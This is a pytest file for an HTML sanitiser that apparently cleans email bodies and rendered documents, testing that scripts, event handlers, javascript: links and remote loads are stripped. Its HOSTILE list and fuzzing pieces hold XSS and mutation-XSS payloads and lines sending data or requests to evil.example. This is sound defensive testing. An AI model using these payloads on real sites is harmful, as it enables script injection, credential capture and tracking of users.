"""What is left of a stranger's HTML. Run in process: these lists are the same in a worker."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mss.model.errors import Malformed
from mss.sandbox.html import CUT, TAGS_MAX, clean_body, clean_rendering, to_text

PIXEL = "data:image/png;base64,iVBORw0KGgo="

HOSTILE = [
    "<script>alert(1)</script>x",
    "<img src=x onerror=alert(1)>x",
    "<svg/onload=alert(1)>x",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">x',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>x",
    "<object data=evil.swf></object><embed src=evil>x",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<style>@import 'https://evil.example/x.css'</style>x",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<img src=https://evil.example/pixel.gif>x",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>x",
    "<img srcset='https://evil.example/a 1x'>x",
    "<video poster=https://evil.example/a><source src=https://evil.example/b></video>x",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>x",
    "<base href=https://evil.example>x",
    "<link rel=stylesheet href=https://evil.example>x",
    "<p id=csrf class=button name=x data-x=1>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->x",
    "<table background=https://evil.example/b><td>x</table>",
    "<template><img src=x onerror=alert(1)></template>x",
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
]


class Seen(HTMLParser):
    """Elements and attributes, as another parser than nh3's sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str, *, own_anchors: bool = False) -> None:
    """No element that runs or loads, no attribute but the few, no address but inline data."""
    seen = Seen(html)
    assert not seen.tags & {"script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "link"}
    assert own_anchors or "a" not in seen.tags
    for tag, name, value in seen.attributes:
        if name == "src":
            assert re.match(r"(data:image/(png|jpeg|gif);base64,|cid:)", value)
        elif name == "href":
            assert value.startswith("#cda-")
        else:
            assert name in {"alt", "colspan", "rowspan", "scope", "class", "id"}, (tag, name)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_or_loads_survives(html: str) -> None:
    """In a message body, in a rendering, and read as text."""
    assert_harmless(clean_body(html))
    assert_harmless(clean_rendering(html), own_anchors=True)
    assert "alert" not in to_text(html) or "<" not in to_text(html)


_pieces = st.sampled_from(
    [*HOSTILE, "<p>", "</p>", "<a href='https://a.example/", "'>", '"', "<a>", "</a>", "<table><tr><td>", "</table>",
     "&lt;", "<img alt='", "<b>", "<!--", "-->", "<pre>\n", "]]>", "<svg>", "</svg>", "<p title=\"</p>", "\x00", "é"]
)  # fmt: skip


@given(st.lists(_pieces, max_size=12).map("".join))
def test_no_mixture_gets_through(html: str) -> None:
    """The broken pieces of hostile HTML, in any order."""
    assert_harmless(clean_body(html))
    assert_harmless(clean_rendering(html), own_anchors=True)
    to_text(html)


def test_a_body_keeps_its_shape() -> None:
    """Paragraphs, emphasis, lists, tables and inline pictures of the message stay."""
    html = (
        "<p>Bonjour <b>Madame</b>,<br>vos <em>r&eacute;sultats</em>&nbsp;:</p><ul><li>un</li></ul>"
        f'<table><tbody><tr><td colspan="2">7,2</td></tr></tbody></table><img src="{PIXEL}" alt="logo">'
        '<img src="cid:a@b">'
    )
    assert clean_body(html) == html.replace("&eacute;", "é")


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ('<a href="https://a.example/x?b=1&amp;c=2">ici</a>', "ici (https://a.example/x?b=1&amp;c=2)"),
        ('<a href="https://a.example/">https://a.example/</a>', "https://a.example/"),
        ('<a href="https://evil.example/">https://bank.example/</a>', "https://bank.example/ (https://evil.example/)"),
        ('<a href="https://a.example/"><img src="https://a.example/p.gif"></a>', "https://a.example/"),
        ('<a href="https://a.example/"><b>ici</b></a>', "<b>ici</b> (https://a.example/)"),
        ('<a href="mailto:a@a.example">a@a.example</a>', "a@a.example"),
        ('<a href="/logout">ici</a>', "ici"),
    ],
)
def test_a_link_is_words_with_its_true_address(html: str, shown: str) -> None:
    """Nobody clicks where a stranger points, and the words cannot hide the address."""
    assert clean_body(html) == shown


def test_a_picture_that_is_not_shown_leaves_its_words() -> None:
    """A remote picture is gone, its description stays."""
    assert clean_body('<p>a<img src="https://a.example/p.gif" alt="Plan &lt;b&gt; d\'accès">b</p>').startswith(
        "<p>a[Plan "
    )
    assert_harmless(clean_body('<img alt="&lt;script&gt;alert(1)&lt;/script&gt;">'))


def test_a_rendering_keeps_only_what_our_style_sheet_writes() -> None:
    """Its classes, its anchors, its pictures; a class of the page does not get in."""
    html = (
        '<article class="cda"><section class="cda-section"><h3>T</h3><div class="cda-text"><p class="cda-bold">x</p>'
        f'<a href="#cda-n1">*</a><small class="cda-footnote" id="cda-n1">n</small><img class="cda-image" src="{PIXEL}">'
        "</div></section></article>"
    )
    cleaned = clean_rendering(html)
    assert cleaned.replace(" ", "") == html.replace(" ", "") or Seen(cleaned).tags == Seen(html).tags
    assert sorted(Seen(cleaned).attributes) == sorted(Seen(html).attributes)
    assert 'class="danger"' not in clean_rendering('<p class="danger cda-bold">x</p>')
    assert "href" not in clean_rendering('<a href="#main">x</a><a href="//evil.example">y</a>')


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Un</p><p>Deux<br>Trois</p>", "Un\nDeux\nTrois"),
        ("a\n   b\t c", "a b c"),
        ("<ul><li>un</li><li>deux</li></ul>", "- un\n- deux"),
        ("<table><tr><td>Na</td><td>140</td></tr><tr><td>K</td><td>4</td></tr></table>", "Na\t140\nK\t4"),
        ("<title>t</title><style>p{}</style>a &lt;b&gt; &amp;amp; &eacute;", "a <b> &amp; é"),
        ("a\x00\x1b[2Jb", "a[2Jb"),
        ("", ""),
    ],
)
def test_html_reads_as_lines(html: str, text: str) -> None:
    """Blocks are lines, cells are columns, entities are characters, nothing hidden is shown."""
    assert to_text(html).replace("\ufffd", "") == text


def test_too_much_is_refused_or_cut_in_time() -> None:
    """A hundred thousand nested elements cost a browser's parser a minute; here they cost at most seconds."""
    bomb = "<div>" * 100_000 + "x"
    begun = time.process_time()
    with pytest.raises(Malformed):
        clean_body(bomb)
    assert to_text("<p>début</p>" + "<p>x" * 100_000).endswith(CUT)
    assert time.process_time() - begun < 2
    assert to_text("<p>début</p>" + "<br>" * TAGS_MAX).startswith("début")
